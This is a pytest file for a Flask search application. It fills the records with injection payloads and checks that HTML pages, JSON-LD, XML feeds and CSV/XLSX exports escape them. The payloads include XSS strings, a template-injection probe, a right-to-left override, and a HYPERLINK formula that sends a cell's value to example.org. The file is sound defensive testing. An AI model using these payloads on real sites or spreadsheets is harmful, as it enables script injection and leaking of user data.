"""A corpus whose every text is an attack, on every page and in every file."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree as ET

import msgspec
import openpyxl
import pytest

from reliability.material import make_client
from renkei_search.corpus.collection import Catalogue, Corpus
from renkei_search.model.record import Initiative
from renkei_search.search.service import build_index
from tests.web.markup import read

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from flask.testing import FlaskClient

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"図書館")'
ATTACK = (
    "</script><script>alert(1)</script>\"'><img src=x onerror=alert(2)>]]><!--{{7*7}}"
    '<a href="javascript:alert(3)">\u202e図書館\u202c</title></textarea>&#x3c;b&gt;\\u003c'
)
# What people write; ids, codes, prefectures and dates are checked against lists when a corpus is read.
_TEXTS = {
    "title",
    "description",
    "name",
    "value",
    "content",
    "text",
    "publisher",
    "licence",
    "period",
    "as_of",
}
_LISTS = {"members", "municipalities", "core_cities"}


def _poison(value: Any, key: str = "") -> Any:
    if key == "spans":
        return value
    if isinstance(value, dict):
        return {name: _poison(item, name) for name, item in value.items()}
    if isinstance(value, list | tuple):
        return [f"{FORMULA}{item}{ATTACK}" if key in _LISTS else _poison(item, key) for item in value]
    if key in _TEXTS and isinstance(value, str):
        return f"{FORMULA}{value}{ATTACK}"
    return value


def _poisoned(corpus: Corpus) -> Corpus:
    initiatives = _poison(msgspec.to_builtins(corpus.initiatives[:40]))
    catalogue = dict(msgspec.to_builtins(corpus.catalogue))
    texts = [item.text for item in corpus.catalogue.sources]
    catalogue["regions"] = _poison(catalogue["regions"])
    catalogue["sources"] = [{**item, "source": _poison(item["source"])} for item in catalogue["sources"]]
    for item, text in zip(catalogue["sources"], texts, strict=True):
        # As long as before: records point into it.
        item["text"] = (ATTACK * (len(text) // len(ATTACK) + 1))[: len(text)]
    return Corpus(
        catalogue=msgspec.convert(catalogue, Catalogue),
        initiatives=tuple(msgspec.convert(item, Initiative) for item in initiatives),
        fingerprint="hostile",
    )


@pytest.fixture(scope="module")
def hostile(corpus: Corpus) -> Corpus:
    return _poisoned(corpus)


@pytest.fixture(scope="module")
def client(hostile: Corpus, tmp_path_factory: pytest.TempPathFactory) -> FlaskClient:
    root: Path = tmp_path_factory.mktemp("hostile")
    build_index(root, hostile)
    return make_client(root)


class _Scripts(HTMLParser):
    """Collects what a page would run or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.run: list[str] = []
        self.data: list[str] = []
        self._kind: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag == "script":
            self._kind = given.get("type")
            if self._kind != "application/ld+json":
                self.run.append(given.get("src") or "(inline)")
        if tag == "img":
            # The pictures of the guide are our own files, as the scripts are.
            self.run.append(given.get("src") or f"{tag} {given}")
        if tag in {"iframe", "object", "embed", "base"}:
            self.run.append(f"{tag} {given}")
        self.run += [f"{name}=" for name in given if name.startswith("on")]
        self.run += [
            value
            for name in ("href", "src", "action", "formaction")
            if (value := given.get(name))
            and re.match(r"\s*(javascript|data|vbscript):", value, re.IGNORECASE)
        ]

    def handle_data(self, data: str) -> None:
        if self._kind == "application/ld+json":
            self.data.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._kind = None


def _addresses(hostile: Corpus) -> list[str]:
    ids = [initiative.id for initiative in hostile.initiatives[:3]]
    region = next(one.region for one in hostile.initiatives if one.region)
    compared = "&".join(f"id={one}" for one in ids)
    return [
        *("/", "/search", "/search?q=図書館", "/search?view=region", "/search?q=%3Cscript%3E", "/matrix"),
        *(
            "/regions",
            f"/regions/{region}",
            "/about",
            "/help",
            "/api",
            "/accessibility",
            "/similar",
            "/practices",
        ),
        *(f"/initiatives/{one}" for one in ids),
        *("/compare", f"/compare?{compared}", "/matrix?q=図書館", f"/search?compare={ids[0]}"),
    ]


def test_no_page_runs_what_the_corpus_says(client: FlaskClient, hostile: Corpus) -> None:
    seen = 0
    for address in _addresses(hostile):
        scripts = _Scripts()
        page = read(client, address)
        scripts.feed(page)
        scripts.close()
        assert all(source.startswith("/static/") for source in scripts.run), (address, scripts.run)
        assert "49" not in re.findall(r"<!--(\d+)", page)
        seen += "&lt;script&gt;alert(1)" in page
        for data in scripts.data:
            assert json.loads(data)["@context"] == "https://schema.org"
    assert seen > len(_addresses(hostile)) / 2  # the attack was on the pages


def test_a_draft_and_an_error_page_do_not_run_either(client: FlaskClient) -> None:
    pages = [
        client.post("/similar", data={"text": ATTACK}).text,
        client.get("/initiatives/%3Cscript%3Ealert(1)%3C%2Fscript%3E").text,
        client.get("/search", query_string={"q": ATTACK * 3}).text,
        client.get("/search", query_string={"region": ATTACK}).text,
        client.get("/search", query_string={ATTACK: "1"}).text,
    ]
    for page in pages:
        scripts = _Scripts()
        scripts.feed(page)
        assert all(source.startswith("/static/") for source in scripts.run), scripts.run


def test_json_ld_says_the_text_as_it_is(client: FlaskClient, hostile: Corpus) -> None:
    scripts = _Scripts()
    scripts.feed(client.get(f"/initiatives/{hostile.initiatives[0].id}").text)
    said = [json.loads(data) for data in scripts.data]
    assert any(ATTACK in thing.get("isBasedOn", {}).get("name", "") for thing in said)


def test_the_endpoint_gives_the_text_as_it_is_and_is_json(client: FlaskClient, hostile: Corpus) -> None:
    first = hostile.initiatives[0]
    answer = client.get(f"/api/v1/initiatives/{first.id}")
    assert answer.mimetype == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.get_json()["description"] == first.description


@pytest.mark.parametrize(
    "path", ["/search.atom?q=図書館", "/sitemap.xml", "/sitemap-1.xml", "/opensearch.xml"]
)
def test_xml_is_well_formed_and_holds_the_text_as_text(client: FlaskClient, path: str) -> None:
    root = ET.fromstring(client.get(path).data)  # noqa: S314 # our own
    for element in root.iter():
        assert element.tag.startswith("{http"), element.tag
        assert not any(name.startswith("on") for name in element.attrib)
        assert "javascript:" not in "".join(element.attrib.values())


def _cells(rows: Iterator[tuple[Any, ...]]) -> Iterator[str]:
    return (cell for row in rows for cell in row if isinstance(cell, str))


def test_no_cell_of_a_csv_file_is_a_formula(client: FlaskClient, hostile: Corpus) -> None:
    ids = "&".join(f"id={one.id}" for one in hostile.initiatives[:3])
    for path in ("/search.csv", f"/compare.csv?{ids}"):
        text = client.get(path).data.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r")]


def test_no_cell_of_a_workbook_is_a_formula(client: FlaskClient, hostile: Corpus) -> None:
    ids = "&".join(f"id={one.id}" for one in hostile.initiatives[:3])
    for path in ("/search.xlsx", f"/compare.xlsx?{ids}"):
        book = openpyxl.load_workbook(io.BytesIO(client.get(path).data))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert any(isinstance(cell.value, str) and "HYPERLINK" in cell.value for cell in cells)
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert not [
            cell.hyperlink.target
            for cell in cells
            if cell.hyperlink and not (cell.hyperlink.target or "http").startswith("http")
        ]


def test_records_come_back_as_they_were(client: FlaskClient, hostile: Corpus) -> None:
    lines = map(msgspec.json.decode, client.get("/corpus.jsonl").data.splitlines())
    derived = {"citation", "editorial_title"}
    records = [{key: value for key, value in line.items() if key not in derived} for line in lines]
    assert msgspec.convert(records, tuple[Initiative, ...]) == hostile.initiatives
